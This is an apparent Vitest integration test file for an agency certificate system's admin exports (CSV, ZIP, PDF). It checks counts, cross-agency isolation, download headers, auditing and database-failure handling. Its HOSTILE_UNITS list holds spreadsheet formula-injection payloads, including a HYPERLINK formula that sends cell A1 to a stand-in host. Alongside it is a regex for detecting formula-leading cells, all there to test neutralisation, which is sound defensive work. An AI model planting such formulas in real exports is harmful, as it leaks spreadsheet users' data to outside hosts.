// Exports against a real D1: each scope's CSV has exactly the rows the report and plain SQL count, the
// pending CSV is the report's pending, agency B's sentinel never reaches A's CSV, ZIP or PDF, hostile
// cells typed into a roster come back neutralised, 18-digit NIPs stay whole, every download carries the
// security and no-store headers and is audited, and a failing database before the first byte is a 503
// with nothing audited.
import { env } from 'cloudflare:workers';
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { app } from '../../functions/api/app';
import { API_HEADERS } from '../../functions/http/security-headers';
import { AGENCY_A, AGENCY_B, api, createUser, sessionCookieFor } from './accounts';
import { BASE, newClientIp } from './helpers';
import { importRoster, scopeFor, syntheticNip, typedAttempt, type Member } from './roster-support';
import { faultyD1 } from './faulty-d1';
import { revokeCertificate } from '../../functions/storage/agency-certificates';
import {
  type CertificateCursor,
  certificateExportPage,
  countExportCertificates,
  type PendingExportCursor,
  partCursor,
  pendingExportPage,
} from '../../functions/storage/exports';
import { pagesOf, type PageFetcher } from '../../functions/exports/pages';

const SENTINEL = 'ZZSENTINELB';
/** Cells a spreadsheet would run, typed into a roster (units and emails; names allow letters and .,'- only). */
const HOSTILE_UNITS = [
  '=HYPERLINK("http://x.example/?"&A1)',
  '+62 812 3456',
  '-2+3',
  '@SUM(A1:A9)',
  '   =1+1',
  'Bidang\t=Umum',
  'Dinas Kesehatan',
];
const HOSTILE_EMAILS = ['=cmd@x.example', '+tag@x.example', '-x@x.example', 'biasa@x.example'];

let cookie: string;
let bCookie: string;
const bCodes: string[] = [];
const aMembers: Member[] = [];

interface Report {
  totals: { headcount: number; certified: number; pending: number; certificates: number; revoked: number };
  units: { unitId: number; name: string; headcount: number; certified: number; pending: number }[];
}

const get = (path: string, who = cookie) => api(path, { cookie: who });
const report = async () => (await (await get('/api/admin/report')).json()) as Report;
const count = async (sql: string, ...params: unknown[]) =>
  (await env.DB.prepare(sql)
    .bind(...params)
    .first<{ n: number }>())!.n;

/** The CSV's records (BOM stripped) as objects keyed by header. */
async function csvRecords(res: Response): Promise<Record<string, string>[]> {
  const bytes = new Uint8Array(await res.arrayBuffer());
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const parsed = Papa.parse<Record<string, string>>(new TextDecoder().decode(bytes), { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

function expectDownloadHeaders(res: Response, type: string, ext: string) {
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toContain(type);
  expect(res.headers.get('content-disposition')).toMatch(
    new RegExp(`^attachment; filename="[A-Za-z0-9.-]+-\\d{4}-\\d{2}-\\d{2}[a-z0-9-]*\\.${ext}"$`),
  );
  expect(res.headers.get('cache-control')).toBe('no-store');
  expect(res.headers.get('x-robots-tag')).toContain('noindex');
  for (const [name, value] of Object.entries(API_HEADERS)) if (name !== 'X-Robots-Tag') expect(res.headers.get(name), name).toBe(value);
}

/** A code as it may sit in PDF bytes: plain, as hex of its ASCII (drawn text), as UTF-16BE hex (metadata). */
function encodings(code: string): string[] {
  const hex = [...code].map((ch) => ch.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')).join('');
  const utf16 = [...code].map((ch) => `00${ch.charCodeAt(0).toString(16).toUpperCase().padStart(2, '0')}`).join('');
  return [code, hex, utf16];
}
const latin1 = (bytes: Uint8Array) => new TextDecoder('latin1').decode(bytes);

/** A PDF's bytes with every Flate stream inflated (pdf-lib compresses content and object streams). */
async function pdfText(pdf: Uint8Array): Promise<string> {
  const raw = latin1(pdf);
  const parts = [raw];
  for (const match of raw.matchAll(/stream\r?\n/g)) {
    const start = match.index + match[0].length;
    let end = raw.indexOf('endstream', start);
    if (end < 0) continue;
    while (end > start && (raw[end - 1] === '\n' || raw[end - 1] === '\r')) end--;
    try {
      const inflated = new Response(new Blob([pdf.slice(start, end)]).stream().pipeThrough(new DecompressionStream('deflate')));
      parts.push(latin1(new Uint8Array(await inflated.arrayBuffer())));
    } catch {
      // not a Flate stream, or trailing bytes after it: the raw text is already searched
    }
  }
  return parts.join('\n');
}

/** The entries of a stored ZIP, read through its central directory (the unit tests check CRCs and layout). */
function unzipSync(zip: Uint8Array): Record<string, Uint8Array> {
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  let eocd = zip.length - 22;
  while (eocd >= 0 && view.getUint32(eocd, true) !== 0x06054b50) eocd--;
  const files: Record<string, Uint8Array> = {};
  let at = view.getUint32(eocd + 16, true);
  for (let i = view.getUint16(eocd + 10, true); i > 0; i--) {
    const size = view.getUint32(at + 20, true);
    const nameLength = view.getUint16(at + 28, true);
    const local = view.getUint32(at + 42, true);
    const start = local + 30 + view.getUint16(local + 26, true) + view.getUint16(local + 28, true);
    files[new TextDecoder().decode(zip.subarray(at + 46, at + 46 + nameLength))] = zip.subarray(start, start + size);
    at += 46 + nameLength + view.getUint16(at + 30, true) + view.getUint16(at + 32, true);
  }
  return files;
}

beforeAll(async () => {
  const hr = await createUser('agency_hr', AGENCY_A);
  const adminB = await createUser('agency_admin', AGENCY_B);
  cookie = await sessionCookieFor(hr.id);
  bCookie = await sessionCookieFor(adminB.id);
  // Agency A: 14 members over the hostile units; 8 pass the quiz, one of them twice.
  for (let i = 0; i < 14; i++)
    aMembers.push({
      nip: syntheticNip(9100 + i),
      name: i === 0 ? "-Budi O'Neil" : `Anggota Ekspor ${String.fromCharCode(65 + i)}`,
      unit: HOSTILE_UNITS[i % HOSTILE_UNITS.length]!,
      email: HOSTILE_EMAILS[i % HOSTILE_EMAILS.length],
    });
  await importRoster(scopeFor(AGENCY_A), aMembers);
  for (const m of aMembers.slice(0, 8)) await typedAttempt({ nip: m.nip, name: m.name, agencyId: AGENCY_A }, 0);
  await typedAttempt({ nip: aMembers[1]!.nip, name: aMembers[1]!.name, agencyId: AGENCY_A }, 0);
  // A holder not on the roster, and a failed attempt (no certificate).
  await typedAttempt({ nip: syntheticNip(9200), name: 'Tamu Bantul', agencyId: AGENCY_A }, 0);
  await typedAttempt({ nip: aMembers[9]!.nip, name: aMembers[9]!.name, agencyId: AGENCY_A }, 5);
  // One certificate of A issued on 16 January 2026, local time (WIB): the date-range case.
  await env.DB.prepare(`UPDATE certificates SET issued_at = '2026-01-15T20:00:00.000Z' WHERE nip = ? AND agency_id = ?`)
    .bind(aMembers[2]!.nip, AGENCY_A)
    .run();
  // One of A's certificates revoked: it is exported with its status, and its holder is pending again.
  const revoked = await env.DB.prepare('SELECT code FROM certificates WHERE nip = ? AND agency_id = ?')
    .bind(aMembers[4]!.nip, AGENCY_A)
    .first<{ code: string }>();
  await revokeCertificate(env.DB, scopeFor(AGENCY_A), revoked!.code, 'Uji ekspor', new Date());
  // Agency B: the sentinel as member names, unit and certificate holders.
  const bScope = scopeFor(AGENCY_B, 'agency_admin', adminB.id);
  await importRoster(bScope, [
    { nip: syntheticNip(9300), name: `Siti ${SENTINEL}`, unit: `UNIT ${SENTINEL}` },
    { nip: syntheticNip(9301), name: `Budi ${SENTINEL}`, unit: `UNIT ${SENTINEL}` },
  ]);
  for (const nip of [syntheticNip(9300), syntheticNip(9302)]) {
    const { result } = await typedAttempt({ nip, name: `Siti ${SENTINEL}`, agencyId: AGENCY_B, unit: `UNIT ${SENTINEL}` }, 0);
    bCodes.push(result.certificate!.code);
  }
}, 120_000);

describe('certificates.csv', () => {
  it('for the agency: every certificate of the current cycle, as the report and SQL count them, NIPs whole', async () => {
    const res = await get('/api/admin/exports/certificates.csv');
    expectDownloadHeaders(res, 'text/csv', 'csv');
    const rows = await csvRecords(res);
    const r = await report();
    expect(rows.length).toBe(r.totals.certificates + r.totals.revoked);
    expect(rows.length).toBe(await count('SELECT count(*) AS n FROM certificates WHERE agency_id = ?', AGENCY_A));
    expect(Object.keys(rows[0]!)).toEqual([
      'NIP',
      'Nama',
      'Unit kerja',
      'Skor',
      'Skor maksimal',
      'Tanggal terbit',
      'Kode sertifikat',
      'Status',
      'Identitas',
      'Tautan verifikasi',
    ]);
    for (const row of rows) {
      expect(row.NIP).toMatch(/^\d{18}$/);
      expect(row['Tautan verifikasi']).toBe(`${BASE}/verifikasi/${row['Kode sertifikat']}`);
    }
    expect(await count('SELECT count(*) AS n FROM roster_members WHERE agency_id = ? AND left_at IS NULL', AGENCY_A)).toBe(aMembers.length);
    const onRoster = new Set(
      rows.filter((row) => row.Status === 'berlaku' && aMembers.some((m) => m.nip === row.NIP)).map((row) => row.NIP),
    );
    expect(onRoster.size).toBe(r.totals.certified);
    expect(rows.map((row) => row.NIP)).toContain(syntheticNip(9200));
    expect(rows.filter((row) => row.Status === 'dicabut').map((row) => row.NIP)).toEqual([aMembers[4]!.nip]);
  });

  it('accepts the page’s form as sent: empty fields mean "not narrowed", part is ignored by the CSVs', async () => {
    const form = 'lang=id&unit=&from=&to=&cycle=&part=1';
    const all = await csvRecords(await get('/api/admin/exports/certificates.csv'));
    expect(await csvRecords(await get(`/api/admin/exports/certificates.csv?${form}`))).toEqual(all);
    for (const path of ['pending.csv', 'certificates.zip', 'certificates.pdf']) {
      const res = await get(`/api/admin/exports/${path}?${form}`);
      // Read to the end: a body left unread would keep the Worker's stream waiting past this test.
      await res.arrayBuffer();
      expect(res.status, path).toBe(200);
    }
    const invalid = await get('/api/admin/exports/certificates.csv?from=2026-13-01');
    await invalid.arrayBuffer();
    expect(invalid.status).toBe(400);
  });

  it('headers in English with ?lang=en', async () => {
    const rows = await csvRecords(await get('/api/admin/exports/certificates.csv?lang=en'));
    expect(Object.keys(rows[0]!)).toEqual([
      'NIP',
      'Name',
      'Work unit',
      'Score',
      'Maximum score',
      'Issued on',
      'Certificate code',
      'Status',
      'Identity',
      'Verify link',
    ]);
    expect(rows[0]!['Verify link']).toContain('/en/verify/');
  });

  it('per unit: the unit’s certified members, as the report’s unit row counts them', async () => {
    const r = await report();
    for (const unit of r.units) {
      const rows = await csvRecords(await get(`/api/admin/exports/certificates.csv?unit=${unit.unitId}`));
      expect(new Set(rows.filter((row) => row.Status === 'berlaku').map((row) => row.NIP)).size, unit.name).toBe(unit.certified);
      const raw = await count(
        `SELECT count(*) AS n FROM certificates c JOIN roster_members m ON m.agency_id = c.agency_id AND m.nip = c.nip AND m.left_at IS NULL
         WHERE c.agency_id = ? AND m.unit_id = ?`,
        AGENCY_A,
        unit.unitId,
      );
      expect(rows.length, unit.name).toBe(raw);
    }
  });

  it('per date range (agency local days): only certificates issued on those days', async () => {
    const rows = await csvRecords(await get('/api/admin/exports/certificates.csv?from=2026-01-16&to=2026-01-16'));
    expect(rows.map((row) => row.NIP)).toEqual([aMembers[2]!.nip]);
    expect(rows[0]!['Tanggal terbit']).toBe('2026-01-16');
    expect(await csvRecords(await get('/api/admin/exports/certificates.csv?from=2026-01-17&to=2026-01-31'))).toEqual([]);
    const later = await csvRecords(await get('/api/admin/exports/certificates.csv?from=2026-01-17'));
    expect(later.length).toBe(
      await count(`SELECT count(*) AS n FROM certificates WHERE agency_id = ? AND issued_at >= '2026-01-16T17:00:00.000Z'`, AGENCY_A),
    );
  });

  it('never holds agency B’s sentinel, and B’s own export does (the search is not vacuous)', async () => {
    for (const path of ['certificates.csv?cycle=all', 'pending.csv']) {
      const text = await (await get(`/api/admin/exports/${path}`)).text();
      expect(text.toUpperCase()).not.toContain(SENTINEL);
      for (const code of bCodes) expect(text).not.toContain(code);
    }
    expect((await (await get('/api/admin/exports/certificates.csv', bCookie)).text()).toUpperCase()).toContain(SENTINEL);
  });

  // Written out here, not imported from the code under test: a cell a spreadsheet would run as a formula.
  const FORMULA_START = /^\s*[=+\-@\t\r\n]/;
  it('hostile cells typed into the roster come back neutralised (papaparse round trip)', async () => {
    const stored = await env.DB.prepare(
      'SELECT m.nip, u.name AS unit, m.email FROM roster_members m JOIN units u ON u.id = m.unit_id WHERE m.agency_id = ?',
    )
      .bind(AGENCY_A)
      .all<{ nip: string; unit: string; email: string | null }>();
    const byNip = new Map(stored.results.map((row) => [row.nip, row]));
    const neutral = (value: string) => (FORMULA_START.test(value) ? `'${value}` : value);
    const pending = await csvRecords(await get('/api/admin/exports/pending.csv'));
    const certified = await csvRecords(await get('/api/admin/exports/certificates.csv'));
    let hostile = 0;
    for (const row of [...pending, ...certified]) {
      const member = byNip.get(row.NIP);
      if (!member) continue;
      expect(row['Unit kerja']).toBe(neutral(member.unit));
      if ('Email' in row) expect(row.Email).toBe(neutral(member.email ?? ''));
      if (FORMULA_START.test(member.unit)) hostile++;
      for (const cell of Object.values(row)) expect(cell, JSON.stringify(row)).not.toMatch(FORMULA_START);
    }
    expect(hostile).toBeGreaterThan(4);
    expect(pending.find((row) => row.NIP === aMembers[0]!.nip)).toBeUndefined();
    expect(certified.find((row) => row.NIP === aMembers[0]!.nip)?.Nama).toBe("'-Budi O'Neil");
  });

  it('by cycle: an unknown cycle is 404, a later cycle moves older certificates out of the default', async () => {
    expect((await get('/api/admin/exports/certificates.csv?cycle=tidak-ada')).status).toBe(404);
    const all = await csvRecords(await get('/api/admin/exports/certificates.csv?cycle=all'));
    const first = await csvRecords(await get('/api/admin/exports/certificates.csv?cycle=pemilu-2029'));
    expect(first.length).toBe(all.length);
    // A new cycle from now on: cycles only ever start after the last submission (routes/admin/cycles.ts), so
    // every certificate so far stays in pemilu-2029 and none counts for the new, current cycle.
    const start = new Date().toISOString();
    const due = new Date(Date.now() + 365 * 86_400_000).toISOString();
    await env.DB.prepare(`INSERT INTO campaigns (id, name, starts_at, due_at) VALUES ('uji-2026', 'Uji', ?, ?)`).bind(start, due).run();
    try {
      const old = await csvRecords(await get('/api/admin/exports/certificates.csv?cycle=pemilu-2029'));
      expect(old.length).toBe(all.length);
      expect(await csvRecords(await get('/api/admin/exports/certificates.csv'))).toEqual([]);
      // Pending for the new cycle: everyone on the roster, as the report says; a past pass is named as such.
      const pending = await csvRecords(await get('/api/admin/exports/pending.csv'));
      const figures = await report();
      expect(pending.length).toBe(figures.totals.pending);
      expect(figures.totals.pending).toBe(figures.totals.headcount);
      const passedBefore = new Set(old.filter((row) => row.Status !== 'dicabut').map((row) => row.NIP));
      const earlier = pending.filter((row) => passedBefore.has(row.NIP));
      expect(earlier.length).toBeGreaterThan(0);
      for (const row of earlier) expect(row.Status).toBe('lulus di siklus lain');
    } finally {
      await env.DB.prepare(`DELETE FROM campaigns WHERE id = 'uji-2026'`).run();
    }
  });
});

describe('keyset pages', () => {
  const everything = { fromAt: '', toAt: '9999-12-31T23:59:59.999Z' };
  async function walk<Row, Cursor>(fetchPage: PageFetcher<Row, Cursor>): Promise<Row[]> {
    const rows: Row[] = [];
    for await (const page of pagesOf(fetchPage)) rows.push(...page);
    return rows;
  }

  it('pages of 2 give the same rows, in the same order, as one page', async () => {
    const scope = scopeFor(AGENCY_A);
    const one = (await certificateExportPage(env.DB, scope, everything, null, 1000)).rows.map((r) => r.code);
    const paged = (await walk((cursor: CertificateCursor | null) => certificateExportPage(env.DB, scope, everything, cursor, 2))).map(
      (r) => r.code,
    );
    expect(paged).toEqual(one);
    expect(new Set(paged).size).toBe(await countExportCertificates(env.DB, scope, everything));
    const pendingOne = (await pendingExportPage(env.DB, scope, everything, null, 1000)).rows.map((r) => r.nip);
    expect(
      (await walk((cursor: PendingExportCursor | null) => pendingExportPage(env.DB, scope, everything, cursor, 2))).map((r) => r.nip),
    ).toEqual(pendingOne);
  });

  it('a part starts after the previous part’s last certificate', async () => {
    const scope = scopeFor(AGENCY_A);
    const codes = (await certificateExportPage(env.DB, scope, everything, null, 1000)).rows.map((r) => r.code);
    expect(await partCursor(env.DB, scope, everything, 1, 3)).toBeNull();
    expect((await partCursor(env.DB, scope, everything, 3, 3))?.code).toBe(codes[5]);
  });
});

describe('pending.csv', () => {
  it('holds the report’s pending members, per agency and per unit', async () => {
    const res = await get('/api/admin/exports/pending.csv');
    expectDownloadHeaders(res, 'text/csv', 'csv');
    const rows = await csvRecords(res);
    const r = await report();
    expect(rows.length).toBe(r.totals.headcount - r.totals.certified);
    expect(Object.keys(rows[0]!)).toEqual(['NIP', 'Nama', 'Unit kerja', 'Email', 'Status']);
    for (const row of rows) expect(row.NIP).toMatch(/^\d{18}$/);
    expect(rows.find((row) => row.NIP === aMembers[4]!.nip)?.Status).toBe('sertifikat dicabut');
    for (const unit of r.units) {
      const unitRows = await csvRecords(await get(`/api/admin/exports/pending.csv?unit=${unit.unitId}`));
      expect(unitRows.length, unit.name).toBe(unit.pending);
    }
  });
});

describe('certificates.zip and certificates.pdf', () => {
  it('the ZIP holds one PDF per certificate, revoked ones included, and none of B’s', async () => {
    const res = await get('/api/admin/exports/certificates.zip');
    expectDownloadHeaders(res, 'application/zip', 'zip');
    const bytes = new Uint8Array(await res.arrayBuffer());
    const files = unzipSync(bytes);
    const names = Object.keys(files);
    expect(names.length).toBe(await count('SELECT count(*) AS n FROM certificates WHERE agency_id = ?', AGENCY_A));
    for (const name of names) {
      expect(name).toMatch(/^NA-[A-Z0-9-]+_[a-z0-9-]+\.pdf$/);
      expect(latin1(files[name]!.subarray(0, 5))).toBe('%PDF-');
    }
    expect(latin1(bytes).toLowerCase()).not.toContain(SENTINEL.toLowerCase());
    for (const name of names) {
      const text = await pdfText(files[name]!);
      for (const code of bCodes) for (const form of encodings(code)) expect(text).not.toContain(form);
      // Not vacuous: the certificate's own code is found by the same search.
      expect(
        encodings(name.split('_')[0]!).some((form) => text.includes(form)),
        name,
      ).toBe(true);
    }
  });

  it('a part past the last is 404; the info route tells how many parts', async () => {
    const info = (await (await get('/api/admin/exports')).json()) as {
      parts: number;
      partSize: number;
      certificates: number;
      cycles: unknown[];
    };
    expect(info).toMatchObject({ parts: 1, partSize: 1000, maxMergedPdf: 200 });
    expect(info.certificates).toBe(await count('SELECT count(*) AS n FROM certificates WHERE agency_id = ?', AGENCY_A));
    const res = await get('/api/admin/exports/certificates.zip?part=2');
    expect(res.status).toBe(404);
    expect(res.headers.get('content-type')).toContain('application/problem+json');
  });

  it('the merged PDF has a page per certificate and none of B’s', async () => {
    const res = await get('/api/admin/exports/certificates.pdf');
    expectDownloadHeaders(res, 'application/pdf', 'pdf');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect(latin1(bytes.subarray(0, 5))).toBe('%PDF-');
    const { PDFDocument } = await import('pdf-lib');
    const doc = await PDFDocument.load(bytes);
    expect(doc.getPageCount()).toBe(await count('SELECT count(*) AS n FROM certificates WHERE agency_id = ?', AGENCY_A));
    const text = await pdfText(bytes);
    for (const code of bCodes) for (const form of encodings(code)) expect(text).not.toContain(form);
    const aCodes = (await env.DB.prepare('SELECT code FROM certificates WHERE agency_id = ?').bind(AGENCY_A).all<{ code: string }>())
      .results;
    // Not vacuous: A's codes are found by the same search (most pages; a few streams do not inflate alone).
    expect(aCodes.filter(({ code }) => encodings(code).some((form) => text.includes(form))).length).toBeGreaterThan(0);
  });
});

describe('audit and faults', () => {
  const audited = (action: string) => count('SELECT count(*) AS n FROM audit_events WHERE agency_id = ? AND action = ?', AGENCY_A, action);

  it('every export writes an audit event with its filters', async () => {
    for (const [path, action] of [
      ['certificates.csv?unit=1&from=2026-01-01', 'export.certificates_csv'],
      ['pending.csv', 'export.pending_csv'],
      ['certificates.zip', 'export.certificates_zip'],
      ['certificates.pdf', 'export.certificates_pdf'],
    ] as const) {
      const before = await audited(action);
      await (await get(`/api/admin/exports/${path}`)).arrayBuffer();
      expect(await audited(action), path).toBe(before + 1);
    }
    const last = await env.DB.prepare(
      `SELECT detail FROM audit_events WHERE action = 'export.certificates_csv' ORDER BY id DESC LIMIT 1`,
    ).first<{
      detail: string;
    }>();
    expect(JSON.parse(last!.detail)).toMatchObject({ unitId: 1, from: '2026-01-01', to: null, cycle: 'pemilu-2029' });
  });

  it('a statement failing before the first byte is a 503 with Retry-After, and nothing is audited', async () => {
    for (const [path, action] of [
      ['certificates.csv', 'export.certificates_csv'],
      ['pending.csv', 'export.pending_csv'],
      ['certificates.zip', 'export.certificates_zip'],
    ] as const) {
      const request = () => new Request(`${BASE}/api/admin/exports/${path}`, { headers: { cookie, 'cf-connecting-ip': newClientIp() } });
      // Every statement up to the first byte: a small export is one page, so that is all of them.
      const counting = faultyD1(env.DB, {});
      await (await app.fetch(request(), { ...env, DB: counting } as Env)).arrayBuffer();
      const statements = counting.statements;
      expect(statements, path).toBeGreaterThan(2);
      for (let failAt = 1; failAt <= statements; failAt++) {
        const before = await audited(action);
        const res = await app.fetch(request(), { ...env, DB: faultyD1(env.DB, { failAt }) } as Env);
        expect(res.status, `${path}: statement ${failAt}`).toBe(503);
        expect(res.headers.get('content-type')).toContain('application/problem+json');
        expect(Number(res.headers.get('retry-after'))).toBeGreaterThan(0);
        expect(await res.text()).not.toMatch(/D1_/);
        expect(await audited(action), `${path}: statement ${failAt}`).toBe(before);
      }
    }
  });
});
